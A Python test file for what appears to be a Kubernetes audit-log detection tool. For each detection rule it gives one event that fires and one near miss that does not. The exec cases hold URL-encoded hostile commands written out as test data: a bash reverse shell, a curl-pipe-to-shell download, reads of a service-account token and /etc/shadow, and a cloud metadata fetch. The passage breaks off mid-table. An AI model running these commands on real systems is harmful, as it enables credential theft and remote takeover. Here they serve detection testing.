"""Every rule of the shipped pack, enabled or not: one case that fires and one near miss (the same
kind of request with the field the rule turns on changed) that does not. Falco's own fixtures are
used wherever one shows the behaviour. Also: body rules on Metadata-level logs are blind, never
silently quiet, and the rules whose lists are the user's (disallowed-user, untrusted-node-*) honour
those lists."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from pathlib import Path

import pytest
from findings_kit import (
    FALCO,
    PACK,
    RULE,
    H,
    M,
    S,
    changed,
    evaluate,
    falco,
    metadata_copy,
    on,
    put,
    req,
    store_of,
)

from audittui.findings import Rule, load_rules
from audittui.findings.rules import Allow, build_rule, read_pack

Source = str | Callable[[], list[dict]]


@dataclass(frozen=True)
class Case:
    source: Source  # a Falco fixture's file name, or events
    rule: Callable[[Rule], Rule] | None = None  # the rule as this case runs it

    def run(self, tmp_path: Path, rule_id: str):
        rule = on(rule_id)
        if self.rule is not None:
            rule = self.rule(rule)
        store = store_of(tmp_path, self.source)
        return store, *evaluate(store, [rule])


def case(source: Source | Case) -> Case:
    return source if isinstance(source, Case) else Case(source)


# -- generated requests -------------------------------------------------------------------------


def pod_spec(**spec) -> dict:
    return {
        "kind": "Pod",
        "apiVersion": "v1",
        "metadata": {"name": "p"},
        "spec": {"containers": [{"name": "c", "image": "nginx"}], **spec},
    }


CRONJOB_CONTROLLER = "system:serviceaccount:kube-system:cronjob-controller"


def pod_create(code: int = 201, **spec) -> list[dict]:
    """A pod create by a person, its spec changed as given."""
    return [req("create", "pods", name="p", code=code, body=pod_spec(**spec))]


def capabilities(add: list[str]) -> dict:
    return {
        "containers": [
            {"name": "c", "image": "nginx", "securityContext": {"capabilities": {"add": add}}}
        ]
    }


def json_patch(op: str, path: str, value) -> list[dict]:
    """A JSON patch of Deployment web (its body: the list of operations)."""
    body = [{"op": op, "path": path, "value": value}]
    return [req("patch", "deployments", api="apps/v1", name="web", body=body)]


def ingress(tls: bool) -> list[dict]:
    spec: dict = {"rules": [{"host": "shop.example.com"}]}
    if tls:
        spec["tls"] = [{"hosts": ["shop.example.com"], "secretName": "shop-tls"}]
    body = {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "spec": spec}
    return [
        req("create", "ingresses", api="networking.k8s.io/v1", name="shop", code=201, body=body)
    ]


def rbac(resource: str, verb: str, code: int, user: str = "alice", body=None) -> list[dict]:
    return [
        req(
            verb,
            resource,
            api="rbac.authorization.k8s.io/v1",
            ns=None if resource.startswith("cluster") else "dev",
            name="r1",
            code=code,
            user=user,
            body=body,
        )
    ]


def role_body(verbs: list[str]) -> dict:
    return {"rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": verbs}]}


def secret_reads(names: list[str], gap: int = M, ips: list[str] | None = None) -> list[dict]:
    ips = ips or ["10.0.0.9"] * len(names)
    return [
        req("get", "secrets", name=n, at=k * gap, ip=ip)
        for k, (n, ip) in enumerate(zip(names, ips, strict=True))
    ]


def forbidden(count: int, spread: int) -> list[dict]:
    """``count`` 403s by mallory, evenly over ``spread`` µs (the first and last exactly so)."""
    step = spread // (count - 1)
    last = [spread] if count > 1 else []
    times = [k * step for k in range(count - 1)] + last
    return [
        req("list", "secrets", code=403, decision="forbid", user="mallory", at=t) for t in times
    ]


def reviews(count: int, spread: int, user: str = "mallory", ip: str = "10.0.0.9") -> list[dict]:
    step = spread // max(count - 1, 1)
    return [
        req(
            "create",
            "selfsubjectrulesreviews",
            api="authorization.k8s.io/v1",
            ns=None,
            code=201,
            user=user,
            ip=ip,
            at=k * step,
        )
        for k in range(count)
    ]


def credential_uses(ips: list[str], gap: int = 10 * M) -> list[dict]:
    extra = {"authentication.kubernetes.io/credential-id": ["JTI=token-1"]}
    user = "system:serviceaccount:dev:web"
    return [
        req("list", "secrets", user=user, ip=ip, extra=extra, at=k * gap)
        for k, ip in enumerate(ips)
    ]


def history(user: str, changes: list[tuple[int, dict]]) -> list[dict]:
    """``user``'s requests every 20 minutes for 3 hours from kubectl at 10.0.0.1, plus the
    requests given as (time, req keyword arguments)."""
    events = [req("get", "pods", name="p1", user=user, at=k * 20 * M) for k in range(10)]
    return events + [req("get", "pods", name="p1", user=user, at=t, **kw) for t, kw in changes]


def impersonating(username: str, groups: list[str] | None = None) -> list[dict]:
    who = {"username": username, "groups": groups or ["system:authenticated"]}
    return [req("get", "pods", name="p1", as_user=who)]


ADMIN_REASON = (
    'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" '
    'to Group "system:masters"'
)


def as_cluster_admin(user: str) -> list[dict]:
    ev = req("delete", "namespaces", ns=None, name="prod", user=user)
    ev["annotations"]["authorization.k8s.io/reason"] = ADMIN_REASON
    return [ev]


def through_role(user: str, verbs: list[str]) -> list[dict]:
    """A ClusterRole created with its body (rules of ``verbs``), then used by ``user``."""
    rules = [{"apiGroups": ["apps"], "resources": ["deployments"], "verbs": verbs}]
    role = {"kind": "ClusterRole", "apiVersion": "rbac.authorization.k8s.io/v1",
            "metadata": {"name": "deployer"}, "rules": rules}  # fmt: skip
    created = req("create", "clusterroles", api="rbac.authorization.k8s.io/v1", ns=None,
                  name="deployer", code=201, user="kubernetes-admin", body=role)  # fmt: skip
    created["responseObject"] = role
    used = req("delete", "deployments", api="apps/v1", name="web", user=user, at=10_000_000)
    used["annotations"]["authorization.k8s.io/reason"] = (
        'RBAC: allowed by ClusterRoleBinding "deployers" of ClusterRole "deployer" to User '
        f'"{user}"'
    )
    return [created, used]


def csr(verb: str, user: str, sub: str | None = None) -> list[dict]:
    return [
        req(
            verb,
            "certificatesigningrequests",
            sub=sub,
            api="certificates.k8s.io/v1",
            ns=None,
            name="csr-1",
            code=201 if verb == "create" else 200,
            user=user,
        )
    ]


def with_lists(**lists: list) -> Callable[[Rule], Rule]:
    """A Case's rule rebuilt from the pack's text with these lists (as a user's rules.yaml
    would extend them)."""

    def rebuild(rule: Rule) -> Rule:
        pack = read_pack()
        item = next(i for i in pack["rules"] if i["id"] == rule.id)
        return replace(build_rule(item, {**pack["lists"], **lists}), enabled=True)

    return rebuild


def secret_gets(n: int, code: int = 200, user: str = "mallory", gap: int = 10 * S) -> list[dict]:
    return [req("get", "secrets", name=f"s{k}", code=code, user=user, at=k * gap) for k in range(n)]


def then(first: dict, later: dict, at: int = H + S) -> list[dict]:
    """A key's history (``first`` at 0, kubectl's client by default), then ``later`` (``first``
    changed as given) past the hour the new-terms rules learn."""
    return [req(**first), req(**{**first, **later, "at": at})]


def walk(kinds: list[str], user: str = "mallory") -> list[dict]:
    return [req("list", r, user=user, ip="10.0.0.9", at=k * 5 * S) for k, r in enumerate(kinds)]


def rules(resources: list[str], verbs: list[str]) -> dict:
    return {"rules": [{"apiGroups": [""], "resources": resources, "verbs": verbs}]}


def binding(role: str) -> dict:
    return {
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [{"kind": "User", "name": "mallory"}],
    }


def binding_patch(path: str, value) -> list[dict]:
    """A JSON patch of the cluster-admin ClusterRoleBinding (its body: a list of operations)."""
    api = "rbac.authorization.k8s.io/v1"
    body = [{"op": "add", "path": path, "value": value}]
    return [req("patch", "clusterrolebindings", api=api, ns=None, name="cluster-admin", body=body)]


def webhook_patch(user: str) -> list[dict]:
    api = "admissionregistration.k8s.io/v1"
    res = "validatingwebhookconfigurations"
    return [req("patch", res, api=api, ns=None, name="w", user=user)]


def csr_with(signer: str, usage: str) -> list[dict]:
    body = {"spec": {"signerName": signer, "usages": [usage]}}
    api = "certificates.k8s.io/v1"
    res = "certificatesigningrequests"
    return [req("create", res, api=api, ns=None, name="csr-1", code=201, body=body)]


SA = "system:serviceaccount:"

# -- the table ----------------------------------------------------------------------------------
# rule id → (fires, does not fire)


def exec_cmd(command: str, code: int = 101) -> dict:
    """A kubectl exec of ``command`` (the URI's query after the first ``command=``)."""
    uri = f"/api/v1/namespaces/default/pods/web/exec?command={command}&container=c&stdout=true"
    return req("create", "pods", sub="exec", name="web", code=code, uri=uri)


CASES: dict[str, tuple[Source | Case, Source | Case]] = {
    # who is calling
    "disallowed-user": (
        "some-user_creates_namespace_foo.json",
        "minikube_creates_namespace_foo.json",  # minikube-user is in allowed_users
    ),
    "anonymous-allowed": (
        "anonymous_creates_namespace_foo.json",
        changed(
            "anonymous_creates_namespace_foo.json",
            lambda ev: ev["annotations"].update({"authorization.k8s.io/decision": "forbid"}),
        ),
    ),
    "cluster-admin-by-person": (
        lambda: as_cluster_admin("kubernetes-admin"),
        lambda: as_cluster_admin("system:serviceaccount:kube-system:namespace-controller"),
    ),
    "wildcard-role-by-person": (
        lambda: through_role("erin", ["*"]),
        lambda: through_role("erin", ["get", "list", "delete"]),
    ),
    "admin-access": (
        "create_configmap.json",  # minikube-user
        changed("create_configmap.json", put("user.username", "alice")),
    ),
    # pods
    "disallowed-pod": (
        "create_nginx_pod_unprivileged.json",
        Case(
            "create_nginx_pod_unprivileged.json",
            lambda r: replace(r, allow=Allow(images=("nginx", "registry.example.com/*"))),
        ),
    ),
    "privileged-pod": (
        "create_nginx_pod_privileged.json",
        "create_nginx_pod_unprivileged.json",
    ),
    "sensitive-mount-pod": (
        "create_nginx_pod_sensitive_mount.json",  # hostPath /etc
        changed(
            "create_nginx_pod_sensitive_mount.json",
            put("requestObject.spec.volumes", [{"name": "d", "hostPath": {"path": "/var/data"}}]),
        ),
    ),
    "hostnetwork-pod": (
        "create_nginx_pod_hostnetwork.json",
        "create_nginx_pod_nohostnetwork.json",
    ),
    "hostpid-pod": (
        changed("create_nginx_pod_unprivileged.json", put("requestObject.spec.hostPID", True)),
        changed("create_nginx_pod_unprivileged.json", put("requestObject.spec.hostPID", False)),
    ),
    "hostipc-pod": (
        changed("create_nginx_pod_unprivileged.json", put("requestObject.spec.hostIPC", True)),
        changed("create_nginx_pod_unprivileged.json", put("requestObject.spec.hostIPC", False)),
    ),
    "pod-in-kube-namespace": (
        "create_pod_kube_system_namespace.json",
        changed("create_pod_kube_system_namespace.json", put("objectRef.namespace", "shop")),
    ),
    # pods and workloads: refused attempts apart, templates, persistence (issue 30; more in
    # test_findings_workloads.py)
    "privileged-pod-attempt": (
        changed("create_nginx_pod_privileged.json", put("responseStatus.code", 403)),
        "create_nginx_pod_privileged.json",
    ),
    "dangerous-capabilities-pod": (
        lambda: pod_create(**capabilities(["SYS_ADMIN"])),
        lambda: pod_create(**capabilities(["NET_BIND_SERVICE"])),
    ),
    "dangerous-capabilities-pod-attempt": (
        lambda: pod_create(**capabilities(["SYS_ADMIN"]), code=403),
        lambda: pod_create(**capabilities(["SYS_ADMIN"])),
    ),
    "root-pod": (
        lambda: pod_create(securityContext={"runAsUser": 0}),
        lambda: pod_create(securityContext={"runAsUser": 1000}),
    ),
    "root-pod-attempt": (
        lambda: pod_create(securityContext={"runAsNonRoot": False}, code=422),
        lambda: pod_create(securityContext={"runAsNonRoot": False}),
    ),
    "sensitive-mount-pod-attempt": (
        changed("create_nginx_pod_sensitive_mount.json", put("responseStatus.code", 403)),
        "create_nginx_pod_sensitive_mount.json",
    ),
    "hostpath-pod": (
        lambda: pod_create(volumes=[{"name": "d", "hostPath": {"path": "/var/data"}}]),
        lambda: pod_create(volumes=[{"name": "d", "hostPath": {"path": "/etc"}}]),
    ),
    "hostpath-pod-attempt": (
        lambda: pod_create(volumes=[{"name": "d", "hostPath": {"path": "/data"}}], code=403),
        lambda: pod_create(volumes=[{"name": "d", "hostPath": {"path": "/data"}}]),
    ),
    "hostnetwork-pod-attempt": (
        changed("create_nginx_pod_hostnetwork.json", put("responseStatus.code", 403)),
        "create_nginx_pod_hostnetwork.json",
    ),
    "hostpid-pod-attempt": (
        lambda: pod_create(hostPID=True, code=403),
        lambda: pod_create(hostPID=True),
    ),
    "hostipc-pod-attempt": (
        lambda: pod_create(hostIPC=True, code=403),
        lambda: pod_create(hostIPC=True),
    ),
    "pod-in-kube-namespace-attempt": (
        changed("create_pod_kube_system_namespace.json", put("responseStatus.code", 403)),
        "create_pod_kube_system_namespace.json",
    ),
    "nodeport-service-attempt": (
        changed("create_nginx_service_nodeport.json", put("responseStatus.code", 422)),
        "create_nginx_service_nodeport.json",
    ),
    "cronjob-modified": (
        lambda: [req("patch", "cronjobs", api="batch/v1", name="backup")],
        lambda: [req("patch", "cronjobs", api="batch/v1", name="backup", sub="status")],
    ),
    "job-created": (
        lambda: [req("create", "jobs", api="batch/v1", name="j1", code=201)],
        lambda: [
            req("create", "jobs", api="batch/v1", name="j1", code=201, user=CRONJOB_CONTROLLER)
        ],
    ),
    "daemonset-created": (
        lambda: [req("create", "daemonsets", api="apps/v1", ns="kube-system", name="a", code=201)],
        lambda: [
            req(
                "create",
                "daemonsets",
                api="apps/v1",
                ns="kube-system",
                name="a",
                code=201,
                user=f"{SA}kube-system:daemon-set-controller",
            )
        ],
    ),
    "daemonset-modified": (
        lambda: [req("patch", "daemonsets", api="apps/v1", name="agent")],
        lambda: [req("patch", "daemonsets", api="apps/v1", name="agent", sub="status")],
    ),
    "workload-container-added": (
        lambda: json_patch("add", "/spec/template/spec/containers/-", {"name": "s", "image": "x"}),
        lambda: json_patch("replace", "/spec/template/spec/containers/0/image", "nginx:2"),
    ),
    "exec-attach": (
        "exec_pod.json",
        changed("exec_pod.json", put("objectRef.subresource", "log")),
    ),
    "port-forward": (
        lambda: [
            req("create", "pods", sub="portforward", name="db", code=101, stage="ResponseStarted")
        ],
        lambda: [req("get", "pods", sub="proxy", name="db")],
    ),
    "ephemeral-containers": (
        lambda: [req("patch", "pods", sub="ephemeralcontainers", name="web")],
        lambda: [req("patch", "pods", sub="ephemeralcontainers", name="web", code=422)],
    ),
    # what an exec ran (more cases: test_findings_exec.py): an exec whose URI carries the
    # command, and the same exec running something plain
    "exec-refused": (
        lambda: [req("create", "pods", sub="exec", name="web", code=403, decision="forbid")],
        lambda: [req("create", "pods", sub="exec", name="web", code=101)],
    ),
    "exec-token-theft": (
        lambda: [exec_cmd("cat%20%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken")],
        lambda: [exec_cmd("ls")],
    ),
    "exec-cloud-metadata": (
        lambda: [exec_cmd("curl&command=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data")],
        lambda: [exec_cmd("curl&command=http%3A%2F%2F10.0.0.1%2F")],
    ),
    "exec-reverse-shell": (
        lambda: [
            exec_cmd("bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F1.2.3.4%2F4+0%3E%261")
        ],
        lambda: [exec_cmd("bash&command=-i")],
    ),
    "exec-download-run": (
        lambda: [exec_cmd("sh&command=-c&command=curl+-s+http%3A%2F%2Fx%2Fa+%7C+sh")],
        lambda: [exec_cmd("sh&command=-c&command=curl+-s+http%3A%2F%2Fx%2Fa+%7C+grep+a")],
    ),
    "exec-fetch-https": (
        lambda: [exec_cmd("curl&command=https%3A%2F%2F203.0.113.9%2Fx")],
        lambda: [exec_cmd("curl&command=https%3A%2F%2Fkubernetes.default.svc%2F")],
    ),
    "exec-kubectl-cp": (
        lambda: [exec_cmd("tar&command=cf&command=-&command=%2Fdata")],
        lambda: [exec_cmd("tar&command=xf&command=-&command=-C&command=%2Ftmp")],
    ),
    "exec-sensitive-file": (
        lambda: [exec_cmd("cat&command=%2Fetc%2Fshadow")],
        lambda: [exec_cmd("cat&command=%2Fetc%2Fhostname")],
    ),
    "exec-command-refused": (
        lambda: [exec_cmd("cat&command=%2Fetc%2Fshadow", code=403)],
        lambda: [exec_cmd("cat&command=%2Fetc%2Fhostname", code=403)],
    ),
    # namespaces, services, config
    "nodeport-service": (
        "create_nginx_service_nodeport.json",
        "create_nginx_service_nonodeport.json",
    ),
    "configmap-credentials": (
        "create_configmap_sensitive_values.json",
        "create_configmap_no_sensitive_values.json",
    ),
    "disallowed-namespace": (
        "some-user_creates_namespace_foo.json",
        changed("some-user_creates_namespace_foo.json", put("objectRef.name", "kube-node-lease")),
    ),
    "sa-in-kube-namespace": (
        "create_serviceaccount_kube_system_namespace.json",
        changed(
            "create_serviceaccount_kube_system_namespace.json", put("objectRef.name", "coredns")
        ),
    ),
    "ingress-without-tls": (lambda: ingress(tls=False), lambda: ingress(tls=True)),
    "untrusted-node-joined": (
        lambda: [req("create", "nodes", ns=None, name="node-9", code=201)],
        lambda: [req("create", "nodes", ns=None, name="node-9", code=403, decision="forbid")],
    ),
    "untrusted-node-failed": (
        lambda: [req("create", "nodes", ns=None, name="node-9", code=403, decision="forbid")],
        lambda: [req("create", "nodes", ns=None, name="node-9", code=201)],
    ),
    # RBAC
    "system-role-modified": (
        "delete_cluster_role_kube_aggregator.json",  # system:kube-aggregator
        "delete_clusterrole.json",  # some-reader
    ),
    "privileged-clusterrolebinding": (
        "attach_cluster_admin_role.json",
        "create_clusterrolebinding.json",
    ),
    "privileged-clusterrolebinding-attempt": (
        changed("attach_cluster_admin_role.json", put("responseStatus.code", 403)),
        "attach_cluster_admin_role.json",
    ),
    "privileged-rolebinding": (
        lambda: rbac("rolebindings", "create", 201, body=binding("cluster-admin")),
        lambda: rbac("rolebindings", "create", 201, body=binding("admin")),
    ),
    "privileged-binding-changed": (
        lambda: binding_patch("/subjects/-", {"kind": "User", "name": "mallory"}),
        lambda: binding_patch("/metadata/labels/team", "platform"),
    ),
    "binding-modified": (
        lambda: rbac("rolebindings", "patch", 200),
        lambda: rbac("rolebindings", "patch", 200, user=f"{SA}kube-system:x"),
    ),
    "node-proxy-role": (
        lambda: rbac("clusterroles", "create", 201, body=rules(["nodes/proxy"], ["get"])),
        lambda: rbac("clusterroles", "create", 201, body=rules(["nodes"], ["get"])),
    ),
    "sensitive-role": (
        lambda: rbac("clusterroles", "create", 201, body=rules(["secrets"], ["list"])),
        lambda: rbac("clusterroles", "create", 201, body=rules(["configmaps"], ["list"])),
    ),
    "write-role-changed": (
        lambda: rbac("roles", "update", 200, body=rules(["pods"], ["delete"])),
        lambda: rbac("roles", "update", 200, body=rules(["pods"], ["get"])),
    ),
    "rbac-write-attempt": (
        lambda: rbac("clusterrolebindings", "create", 403),
        lambda: rbac("clusterrolebindings", "create", 201),
    ),
    "wildcard-role": (
        "create_cluster_role_wildcard_verbs.json",
        "create_cluster_role_write_privileges.json",
    ),
    "write-role": (
        "create_cluster_role_write_privileges.json",
        "create_clusterrole.json",
    ),
    "pod-exec-role": (
        "create_cluster_role_pod_exec.json",
        "create_clusterrole.json",
    ),
    # object lifecycle
    "deployment-created": (
        "create_deployment.json",
        changed("create_deployment.json", put("responseStatus.code", 409)),
    ),
    "deployment-deleted": ("delete_deployment.json", "create_deployment.json"),
    "service-created": ("create_service.json", "delete_service.json"),
    "service-deleted": ("delete_service.json", "create_service.json"),
    "configmap-created": ("create_configmap.json", "delete_configmap.json"),
    "configmap-deleted": ("delete_configmap.json", "create_configmap.json"),
    "namespace-created": ("some-user_creates_namespace_foo.json", "delete_namespace_foo.json"),
    "namespace-deleted": (
        "delete_namespace_foo.json",
        changed(
            "delete_namespace_foo.json",
            put("user.username", f"{SA}kube-system:namespace-controller"),
        ),
    ),
    "serviceaccount-created": ("create_serviceaccount.json", "delete_serviceaccount.json"),
    "serviceaccount-deleted": ("delete_serviceaccount.json", "create_serviceaccount.json"),
    "role-created": (lambda: rbac("roles", "create", 201), lambda: rbac("roles", "create", 409)),
    "role-deleted": (lambda: rbac("roles", "delete", 200), lambda: rbac("roles", "delete", 404)),
    "clusterrole-created": ("create_clusterrole.json", "delete_clusterrole.json"),
    "clusterrole-deleted": ("delete_clusterrole.json", "create_clusterrole.json"),
    "rolebinding-created": (
        lambda: rbac("rolebindings", "create", 201),
        lambda: rbac("rolebindings", "delete", 200),
    ),
    "rolebinding-deleted": (
        lambda: rbac("rolebindings", "delete", 200),
        lambda: rbac("rolebindings", "create", 201),
    ),
    "clusterrolebinding-created": (
        "create_clusterrolebinding.json",
        "delete_clusterrolebinding.json",
    ),
    "clusterrolebinding-deleted": (
        "delete_clusterrolebinding.json",
        "create_clusterrolebinding.json",
    ),
    "secret-created": ("create_secret.json", "create_kube_system_secret.json"),
    "secret-deleted": (
        "delete_secret.json",
        changed("delete_secret.json", put("objectRef.namespace", "kube-system")),
    ),
    # secrets read
    "secret-get": (
        lambda: [req("get", "secrets", name="db-password")],
        lambda: [req("get", "secrets", name="db-password", user="system:node:node-1")],
    ),
    "secret-get-failed": (
        lambda: [req("get", "secrets", name="db-password", code=403, decision="forbid")],
        lambda: [req("get", "secrets", name="db-password")],
    ),
    # correlations
    "secrets-rapid-read": (
        lambda: secret_reads(["a", "b", "c"]),
        lambda: secret_reads(["a", "a", "a"]),
    ),
    "forbidden-burst": (lambda: forbidden(10, M), lambda: forbidden(9, M)),
    "permission-enumeration": (lambda: reviews(5, M), lambda: reviews(4, M)),
    "anonymous-enumeration": (
        lambda: reviews(1, 0, user="system:anonymous"),
        lambda: reviews(1, 0, user="alice"),
    ),
    "credential-multi-ip": (
        lambda: credential_uses(["10.0.0.1", "203.0.113.7"]),
        lambda: credential_uses(["10.0.0.1", "10.0.0.1"]),
    ),
    "new-user-agent": (
        lambda: history("alice", [(H + S, {"ua": "curl/8.5.0"})]),
        lambda: history("alice", [(30 * M, {"ua": "curl/8.5.0"})]),  # still learning
    ),
    "new-source-ip": (
        lambda: history("alice", [(2 * H, {"ip": "203.0.113.7"})]),
        lambda: history(f"{SA}dev:web", [(2 * H, {"ip": "203.0.113.7"})]),
    ),
    # Elastic's new_terms rules: a value new for its key after an hour of the key's history
    "secret-read-new-client": (
        lambda: then({"verb": "get", "resource": "secrets", "name": "s"}, {"ua": "curl/8.5.0"}),
        lambda: then({"verb": "get", "resource": "secrets", "name": "s"}, {}),
    ),
    "denied-service-account-new-client": (
        lambda: then(
            {
                "verb": "list",
                "resource": "pods",
                "code": 403,
                "decision": "forbid",
                "user": f"{SA}dev:web",
                "ua": "web/1.4",
            },
            {"ua": "curl/8.5.0"},
        ),
        lambda: then(
            {
                "verb": "list",
                "resource": "pods",
                "code": 403,
                "decision": "forbid",
                "user": f"{SA}dev:web",
                "ua": "web/1.4",
            },
            {"ua": "cilium-agent/1.15"},
        ),
    ),
    "self-subject-review-new-client": (
        lambda: then(
            {
                "verb": "create",
                "resource": "selfsubjectaccessreviews",
                "ns": None,
                "api": "authorization.k8s.io/v1",
                "user": f"{SA}dev:web",
            },
            {"ua": "curl/8.5.0"},
        ),
        lambda: then(
            {
                "verb": "create",
                "resource": "selfsubjectaccessreviews",
                "ns": None,
                "api": "authorization.k8s.io/v1",
                "user": f"{SA}dev:web",
            },
            {"user": "alice", "ua": "curl/8.5.0"},  # a person's review
        ),
    ),
    "forbidden-new-client": (
        lambda: then(
            {"verb": "get", "resource": "pods", "code": 403, "decision": "forbid"},
            {"ua": "curl/8.5.0"},
        ),
        lambda: then(
            {"verb": "get", "resource": "pods", "code": 403, "decision": "forbid"},
            {"ua": "curl/8.5.0", "code": 200, "decision": "allow"},
        ),
    ),
    "new-decision-for-client": (
        lambda: then({"verb": "get", "resource": "pods"}, {"code": 403, "decision": "forbid"}),
        lambda: then({"verb": "get", "resource": "pods"}, {"name": "p2"}),
    ),
    "anonymous-allowed-new-client": (
        lambda: then(
            {
                "verb": "list",
                "resource": "namespaces",
                "ns": None,
                "user": "system:anonymous",
                "ua": "curl/8.5.0",
            },
            {"ua": "python-requests/2.31.0"},
        ),
        lambda: then(
            {
                "verb": "list",
                "resource": "namespaces",
                "ns": None,
                "user": "system:anonymous",
                "ua": "curl/8.5.0",
            },
            {"user": "alice", "ua": "python-requests/2.31.0"},
        ),
    ),
    "workload-change-new-client": (
        lambda: then(
            {"verb": "patch", "resource": "deployments", "api": "apps/v1", "name": "web"},
            {"ua": "curl/8.5.0"},
        ),
        lambda: then(
            {
                "verb": "patch",
                "resource": "deployments",
                "api": "apps/v1",
                "name": "web",
                "groups": ["system:masters"],
            },
            {"ua": "curl/8.5.0"},
        ),
    ),
    # single events
    "impersonation": (
        lambda: impersonating("bob"),
        lambda: [req("get", "pods", name="p1")],
    ),
    "privileged-impersonation": (
        lambda: impersonating("system:admin"),
        lambda: impersonating("bob"),
    ),
    "events-deleted": (
        lambda: [req("delete", "events", name="e1")],
        lambda: [req("delete", "events", name="e1", user=f"{SA}kube-system:namespace-controller")],
    ),
    "webhook-configuration-created": (
        lambda: [
            req(
                "create",
                "validatingwebhookconfigurations",
                api="admissionregistration.k8s.io/v1",
                ns=None,
                name="w",
                code=201,
            )
        ],
        lambda: [
            req(
                "get",
                "validatingwebhookconfigurations",
                api="admissionregistration.k8s.io/v1",
                ns=None,
                name="w",
            )
        ],
    ),
    "webhook-configuration-changed": (
        lambda: webhook_patch("alice"),
        lambda: webhook_patch(f"{SA}cert-manager:cert-manager-cainjector"),
    ),
    "client-certificate-requested": (
        lambda: csr_with("kubernetes.io/kube-apiserver-client", "client auth"),
        lambda: csr_with("kubernetes.io/kubelet-serving", "server auth"),
    ),
    "csr-created": (
        lambda: csr("create", "alice"),
        lambda: csr("create", "system:node:node-1"),
    ),
    "csr-approved": (
        lambda: csr("update", "alice", sub="approval"),
        lambda: csr("update", f"{SA}kube-system:certificate-controller", sub="approval"),
    ),
    "node-proxy": (
        lambda: [req("get", "nodes", sub="proxy", ns=None, name="node-1")],
        lambda: [req("get", "nodes", sub="status", ns=None, name="node-1")],
    ),
    "token-request": (
        lambda: [req("create", "serviceaccounts", sub="token", name="web", code=201)],
        lambda: [
            req(
                "create",
                "serviceaccounts",
                sub="token",
                name="web",
                code=201,
                user="system:node:node-1",
            )
        ],
    ),
    "anonymous-public-probe": (
        lambda: [req("get", None, uri="/version", user="system:anonymous", ip="44.238.138.237")],
        lambda: [req("get", None, uri="/version", user="system:anonymous", ip="10.128.5.42")],
    ),
    "secrets-dump-all-namespaces": (
        lambda: [req("list", "secrets", ns=None, user="mallory")],
        lambda: [req("list", "secrets", ns=None, user=f"{SA}kube-system:namespace-controller")],
    ),
    "secrets-dump-all-namespaces-attempt": (
        lambda: [req("list", "secrets", ns=None, user="mallory", code=403, decision="forbid")],
        lambda: [req("list", "secrets", ns=None, user="mallory")],
    ),
    "secrets-list-kube-system": (
        lambda: [req("list", "secrets", ns="kube-system", user="mallory")],
        lambda: [req("list", "secrets", ns="kube-system", user="system:kube-controller-manager")],
    ),
    "secrets-list": (
        lambda: [req("watch", "secrets", ns="shop", user="mallory")],
        lambda: [req("watch", "secrets", ns="shop", user=f"{SA}cert-manager:cert-manager")],
    ),
    "secrets-enumeration": (lambda: secret_gets(15), lambda: secret_gets(14)),
    "secret-access-denied-burst": (
        lambda: secret_gets(20, code=404),
        lambda: secret_gets(19, code=403),
    ),
    "secret-denied-script": (
        lambda: [req("get", "secrets", name="db", code=403, ua="python-requests/2.31.0")],
        lambda: [req("get", "secrets", name="db", code=403, ua="kubectl/v1.30.0")],
    ),
    "forbidden-public-ip": (
        lambda: [req("get", "pods", code=403, ip="5.5.5.5", at=k * M) for k in range(10)],
        lambda: [req("get", "pods", code=403, ip="10.0.27.115", at=k * M) for k in range(10)],
    ),
    "unauthenticated-request": (
        lambda: [req("get", "pods", code=401, user="")],
        lambda: [req("get", "pods", code=403, decision="forbid")],
    ),
    "create-denied": (
        lambda: [req("create", "pods", code=403, decision="forbid")],
        lambda: [req("create", "pods", code=403, decision="forbid", user="system:node:node-1")],
    ),
    "self-subject-review-by-workload": (
        lambda: reviews(1, 0, user=f"{SA}dev:web"),
        lambda: reviews(1, 0, user="alice"),
    ),
    "resource-discovery": (
        lambda: walk(["namespaces", "nodes", "pods", "secrets", "clusterroles"]),
        lambda: walk(["namespaces", "nodes", "pods", "secrets", "deployments"]),
    ),
    "system-principal-public-ip": (
        lambda: [req("get", "endpoints", user=f"{SA}kube-system:coredns", ip="1.2.3.4")],
        lambda: [req("get", "endpoints", user=f"{SA}kube-system:coredns", ip="10.0.27.115")],
    ),
    "system-principal-public-ip-attempt": (
        lambda: [req("get", "secrets", user=f"{SA}dev:web", ip="1.2.3.4", code=403)],
        lambda: [req("get", "secrets", user=f"{SA}dev:web", ip="1.2.3.4")],
    ),
    "ioc-match": (
        Case(
            lambda: [req("get", "pods", ip="185.220.101.7")],
            with_lists(access_ioc_ips=["185.220.101.0/24"]),
        ),
        lambda: [req("get", "pods", ip="185.220.101.7")],  # the shipped lists are empty
    ),
    "token-request-attempt": (
        lambda: [req("create", "serviceaccounts", sub="token", name="web", code=403)],
        lambda: [req("create", "serviceaccounts", sub="token", name="web", code=201)],
    ),
    "denied-service-account": (
        lambda: [req("list", "secrets", user=f"{SA}dev:web", code=403, decision="forbid")],
        lambda: [req("list", "secrets", user=f"{SA}dev:web")],
    ),
    "aws-auth-modified": (
        lambda: [req("update", "configmaps", ns="kube-system", name="aws-auth")],
        lambda: [req("update", "configmaps", ns="default", name="aws-auth")],
    ),
    "coredns-modified": (
        lambda: [req("patch", "configmaps", ns="kube-system", name="coredns")],
        lambda: [req("get", "configmaps", ns="kube-system", name="coredns")],
    ),
    "rbac-write-by-service-account": (
        lambda: rbac("rolebindings", "create", 201, user=f"{SA}ci:deployer"),
        lambda: rbac("rolebindings", "create", 201, user=f"{SA}kube-system:deployer"),
    ),
    "role-changed-sensitive": (
        lambda: rbac("clusterroles", "patch", 200, body=role_body(["*"])),
        "modify_cluster_role_node_problem_detector.json",  # a patch with no wildcard
    ),
    # Elastic's and Sigma's gaps
    "secret-read-script": (
        lambda: [req("list", "secrets", ua="curl/8.5.0")],
        lambda: [req("list", "secrets", ua="OpenAPI-Generator/29.0.0/python")],
    ),
    "anonymous-pod-write": (
        lambda: [req("create", "pods", user="system:anonymous", code=403, decision="forbid")],
        lambda: [req("list", "pods", user="system:anonymous", code=403, decision="forbid")],
    ),
    "arc-proxy-secret-access": (
